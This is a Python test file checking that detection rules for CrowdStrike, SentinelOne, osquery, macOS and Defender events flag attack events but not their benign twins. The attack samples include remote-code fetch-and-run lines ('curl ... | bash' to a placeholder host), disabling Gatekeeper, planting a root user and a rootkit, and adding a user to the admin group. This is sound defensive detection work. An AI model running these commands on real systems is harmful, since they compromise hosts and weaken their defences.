"""Rules for EDR consoles, osquery and macOS: an attack is found, its ordinary twin stays below medium."""

from __future__ import annotations

import pytest

from svc.assistant.findings import Severity
from svc.assistant.sigma.engine import RuleEngine
from svc.assistant.sigma.event import Event
from svc.assistant.sigma.tables import OURS, load_tables

RULES = load_tables()[OURS].rules
FALCON, AGENTS, OSQUERY = ("crowdstrike", "falcon", ""), ("sentinelone", "activities", ""), ("", "osquery", "")
MACOS, IDENTITY, MAIL = (
    ("macos", "", "process_creation"),
    ("windows", "defender_identity", ""),
    ("m365", "defender_email", ""),
)
DEVICE = ("windows", "defender_endpoint", "")
Source = tuple[str, str, str]


def titles(source: Source, **fields: str) -> list[str]:
    product, service, category = source
    named = {name.replace("__", "."): value for name, value in fields.items()}
    event = Event(number=1, offset=None, time="", product=product, service=service, category=category, host="",
                  event_id=None, fields=named, excerpt="")  # fmt: skip
    hits = RuleEngine(RULES).feed([event])
    return [hit.rule.title for hit in hits if hit.rule.severity not in (Severity.LOW, Severity.INFO)]


CASES: list[tuple[Source, dict[str, str], dict[str, str]]] = [
    (FALCON, {"OperationName": "CreateAPIClient", "Success": "true"},
     {"OperationName": "CreateAPIClient", "Success": "false"}),
    (FALCON, {"OperationName": "DeleteAllowlistGroup"}, {"OperationName": "CreateAllowlistGroup"}),
    (FALCON, {"OperationName": "grantUserRoles", "AuditKeyValues.ValueString": "falcon_console_admin"},
     {"OperationName": "grantUserRoles", "AuditKeyValues.ValueString": "help_desk"}),
    (FALCON, {"OperationName": "disable_policy"}, {"OperationName": "create_policy"}),
    (FALCON, {"OperationName": "create_ml_exclusion"}, {"OperationName": "delete_ml_exclusion"}),
    (FALCON, {"OperationName": "lift_containment"}, {"OperationName": "contain_host"}),
    (FALCON, {"OperationName": "reveal_uninstall_token"}, {"OperationName": "list_tokens"}),
    (FALCON, {"eventType": "RemoteResponseSessionStartEvent"}, {"eventType": "RemoteResponseSessionEndEvent"}),
    (FALCON, {"eventType": "EppDetectionSummaryEvent", "SeverityName": "Low"},
     {"eventType": "EppDetectionSummaryEvent", "SeverityName": "Informational"}),
    (AGENTS, {"primaryDescription": "eve uninstalled the Agent of WS-17"},
     {"primaryDescription": "The Agent of WS-17 was updated"}),
    (AGENTS, {"primaryDescription": "eve opened a remote shell to WS-17"},
     {"primaryDescription": "remote shell to WS-17 failed"}),
    (AGENTS, {"primaryDescription": "eve generated an API token"}, {"primaryDescription": "eve logged in"}),
    (AGENTS, {"primaryDescription": "2FA was disabled for ann"}, {"primaryDescription": "2FA was enabled for ann"}),
    (OSQUERY, {"name": "pack/it/kernel_modules", "action": "added", "columns.name": "diamorphine",
      "columns.status": "Live"},
     {"name": "pack/it/kernel_modules", "action": "removed", "columns.name": "diamorphine", "columns.status": "Live"}),
    (OSQUERY, {"name": "crontab", "action": "added", "columns.command": "curl http://x/a | sh"},
     {"name": "crontab", "action": "added", "columns.command": "run-parts /etc/cron.hourly"}),
    (OSQUERY, {"name": "users", "action": "added", "columns.uid": "0", "columns.username": "sys"},
     {"name": "users", "action": "added", "columns.uid": "1001", "columns.username": "bob"}),
    (OSQUERY, {"name": "sip_config", "action": "added", "columns.config_flag": "sip", "columns.enabled": "0"},
     {"name": "sip_config", "action": "added", "columns.config_flag": "sip", "columns.enabled": "1"}),
    (OSQUERY, {"name": "suid_bin", "action": "added", "columns.path": "/tmp/.x"},
     {"name": "suid_bin", "action": "added", "columns.path": "/usr/bin/sudo"}),
    (OSQUERY, {"name": "deb_packages", "action": "added", "columns.name": "xz-utils", "columns.version": "5.6.1-1"},
     {"name": "deb_packages", "action": "added", "columns.name": "xz-utils", "columns.version": "5.6.10-1"}),
    (MACOS, {"Image": "/usr/bin/security", "CommandLine": "security add-trusted-cert -d -r trustRoot a.cer"},
     {"Image": "/usr/bin/security", "CommandLine": "security help"}),
    (MACOS, {"Image": "/usr/sbin/spctl", "CommandLine": "spctl --master-disable"},
     {"Image": "/usr/sbin/spctl", "CommandLine": "spctl --status"}),
    (MACOS, {"Image": "/bin/sh", "CommandLine": "curl -s http://x/a | bash"},
     {"Image": "/usr/bin/curl", "CommandLine": "curl -s http://x/a -o a"}),
    (MACOS, {"Image": "/usr/bin/dscl", "CommandLine": "dscl . -append /Groups/admin GroupMembership eve"},
     {"Image": "/usr/bin/dscl", "CommandLine": "dscl . -list /Users"}),
    (IDENTITY, {"ActionType": "Group Membership changed", "AdditionalFields": '{"TO.GROUP":"Domain Admins"}'},
     {"ActionType": "Group Membership changed", "AdditionalFields": '{"TO.GROUP":"Newsletter"}'}),
    (MAIL, {"ThreatTypes": "Phish", "DeliveryAction": "Delivered"},
     {"ThreatTypes": "Phish", "DeliveryAction": "Blocked"}),
    (DEVICE, {"ActionType": "TamperingAttempt"}, {"ActionType": "AntivirusScanCompleted"}),
]  # fmt: skip


@pytest.mark.parametrize(("source", "attack", "twin"), CASES)
def test_an_attack_is_found_and_its_ordinary_twin_is_not(source: Source, attack: dict[str, str], twin: dict[str, str]):
    assert titles(source, **attack)
    assert titles(source, **twin) == []
